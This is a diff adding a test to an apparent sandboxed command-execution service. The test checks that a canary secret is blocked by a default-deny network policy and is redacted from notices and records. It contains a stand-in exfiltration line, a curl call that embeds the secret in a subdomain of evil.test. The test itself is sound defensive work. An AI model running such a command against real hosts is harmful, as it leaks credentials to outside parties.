@@ -202,3 +202,21 @@ it('no secret is anywhere but in the environment of the commands that got it', a
     .filter((path) => showsSecret(readFileSync(path, 'latin1')));
   expect(leaking).toEqual([]);
 });
+
+it('a secret that a command asks the network for, or is to run in, is hidden in its denial and its record', async () => {
+  const value = 'canary-asked-2b7e15';
+  const open = await home.open({ environment: { ...process.env, CANARY_ASKED: value } });
+  const { tasks, executions } = open.services;
+  const network: NetworkSpec = { mode: 'policy', rules: [] };
+  const image = await home.engine.clientImage();
+  const env = [{ name: 'ASKED', from: 'env', variable: 'CANARY_ASKED' }] as const;
+  const task = await tasks.create({ title: 'asked', image, env, network }, call);
+  const command = { kind: 'script', script: 'mkdir -p "$ASKED"; curl -sS "http://$ASKED.evil.test/"' } as const;
+  const asked = await executions.run(task.id, { command }, call);
+  expect(asked.notices?.join()).toContain('Denied by default-deny: [redacted:ASKED].evil.test');
+  const inside = await executions.run(task.id, { command: { kind: 'argv', argv: ['pwd'] }, cwd: value }, call);
+  expect(inside.execution.cwd).toBe('/workspace/[redacted:ASKED]');
+  expect(JSON.stringify([asked, inside, await executions.get(asked.execution.id)])).not.toContain(value);
+  await tasks.delete(task.id, {}, call);
+  await open.close();
+});
